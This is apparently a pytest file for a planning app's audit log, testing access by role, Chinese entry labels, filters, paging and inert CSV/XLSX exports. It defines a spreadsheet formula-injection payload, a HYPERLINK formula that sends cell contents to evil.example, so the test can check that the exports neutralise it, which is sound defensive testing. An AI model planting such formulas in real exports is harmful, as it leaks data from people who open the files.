"""The audit page: who may read it, how an entry reads, filters and paging, and the exports."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from planwatch.store import Entry
from planwatch.vocabulary import AUDIT_ACTION_LABELS, fmt_moment

from .conftest import REGION
from .people import add_people, app_client, cheap_hashing, log_in  # noqa: F401 (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def store(web_store):
    web_store.change_settings({"public": False})
    return add_people(web_store)


@pytest.fixture
def planner(store):
    client = app_client(store)
    log_in(client, "planner1")
    return client


@pytest.mark.parametrize("path", ["/audit", "/api/audit", "/audit.csv", "/audit.xlsx"])
def test_who_may_read_the_audit(store, path):
    got = {}
    for who in (None, "admin1", "planner1", "stats", "reader"):
        client = app_client(store)
        if who:
            log_in(client, who)
        got[who] = client.get(path, follow_redirects=False).status_code
    anonymous = 401 if path.startswith("/api") else 303
    assert got == {None: anonymous, "admin1": 200, "planner1": 200, "stats": 403, "reader": 403}


def test_every_action_has_a_label():
    assert set(AUDIT_ACTION_LABELS) >= {
        "user.add", "user.disable", "user.password", "responsibility", "target.adjust", "setting", "round.open",
        "round.close", "submission.save", "submission.submit", "submission.approve", "submission.return",
        "submission.withdraw", "login", "logout", "login_failed", "token", "import"}


def test_entries_read_as_changes(store, planner):
    store.change_settings({"change_share": 0.25}, actor="admin1")
    rnd = store.open_round(year=2024, regions=[REGION], actor="planner1")
    sub, = store.enter_figures(rnd.id, [Entry(indicator="T2-1", region=REGION, responsible_unit="市统计局",
                                              value=9100.0, unit="亿元")], actor="stats", submit=True)
    store.decide(sub.id, "approve", actor="planner1", expected_version=sub.version)
    body = planner.get("/api/audit").json()
    top = [(e["actor"], e["action_label"], e["subject"], e["before_display"], e["after_display"])
           for e in body["entries"][:4]]
    assert top == [
        ("planner1", "审核通过", f"submission:{sub.id} T2-1 {REGION} 2024", "状态：已报送；版本：1", "状态：已通过；版本：2"),
        ("stats", "报送数据", f"submission:{sub.id} T2-1 {REGION} 2024", "",
         "状态：已报送；单位：亿元；数值：9100；版本：1"),
        ("planner1", "开启填报轮次", f"round:{rnd.id}", body["entries"][2]["before_display"],
         body["entries"][2]["after_display"]),
        ("admin1", "修改设置", "change_share", "0.3", "0.25")]
    # … and the entries before: the plan loaded, the accounts, the assignments, the settings.
    assert body["total"] == 12 and (body["page"], body["pages"]) == (1, 1)
    added = next(e for e in body["entries"] if e["action"] == "user.add" and e["subject"] == "stats")
    assert "角色：填报单位" in added["after_display"] and "责任单位：市统计局" in added["after_display"]
    page = planner.get("/audit").text
    assert "<del>已报送</del> → <ins>已通过</ins>" in page and "审核通过" in page
    assert fmt_moment(store.audit_entries(limit=1)[0].at, seconds=True) in page


def test_filters_and_paging(store, planner):
    for n in range(55):
        store.audit("匿名", "login_failed", f"guess{n:02d}")
    today = date.today()
    def ask(**q):
        return planner.get("/api/audit", params=q).json()
    assert ask(action="login_failed")["total"] == 55
    first, second = ask(action="login_failed"), ask(action="login_failed", page=2)
    assert [e["subject"] for e in first["entries"][:2]] == ["guess54", "guess53"]
    assert [e["subject"] for e in second["entries"]] == ["guess04", "guess03", "guess02", "guess01", "guess00"]
    assert (first["next"], second["previous"]) == ("action=login_failed&page=2", "action=login_failed&page=1")
    assert ask(subject="guess1")["total"] == 10
    assert ask(subject="%")["total"] == 0  # a wildcard typed is matched as itself
    assert ask(actor="planner1", action="login")["total"] == 1
    assert ask(since=str(today - timedelta(days=1)), until=str(today + timedelta(days=1)))["total"] == 63
    assert ask(until=str(today - timedelta(days=2)))["total"] == 0
    r = planner.get("/api/audit", params={"since": "2025-02-01", "until": "2025-01-01"})
    assert (r.status_code, r.json()["error"]) == (400, "起始日期 2025-02-01 晚于截止日期 2025-01-01")
    assert planner.get("/api/audit", params={"since": "yesterday"}).status_code == 400
    html = planner.get("/audit", params={"action": "login_failed", "page": 2}).text
    assert "共 55 条，第 2/2 页" in html and 'href="/audit?action=login_failed&amp;page=1"' in html
    assert 'href="/audit.csv?action=login_failed"' in html


def test_exports_are_deterministic_and_inert(store, planner):
    store.audit("admin1", "import", HOSTILE, after={"note": "-1+2"})
    store.audit("admin1", "setting", "public", before=False, after=True)
    csv1 = planner.get("/audit.csv", params={"actor": "admin1"})
    assert csv1.headers["content-disposition"] == 'attachment; filename="audit.csv"'
    entries = store.audit_entries(actor="admin1")
    moments = [fmt_moment(e.at, seconds=True) for e in entries]
    assert csv1.content.decode("utf-8") == (
        "\ufeff编号,时间,操作人,操作,操作代码,对象,修改前,修改后\r\n"
        f"{entries[0].id},{moments[0]},admin1,修改设置,setting,public,否,是\r\n"
        f"{entries[1].id},{moments[1]},admin1,导入数据,import,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\","
        ",说明：-1+2\r\n")
    assert planner.get("/audit.csv", params={"actor": "admin1"}).content == csv1.content
    xlsx1 = planner.get("/audit.xlsx", params={"actor": "admin1"}).content
    assert planner.get("/audit.xlsx", params={"actor": "admin1"}).content == xlsx1
    sheet = load_workbook(io.BytesIO(xlsx1)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[2][5] == HOSTILE and sheet.cell(3, 6).data_type == "s"
    assert rows[0] == ["编号", "时间", "操作人", "操作", "操作代码", "对象", "修改前", "修改后"]
    assert [r[3] for r in rows[1:]] == ["修改设置", "导入数据"]
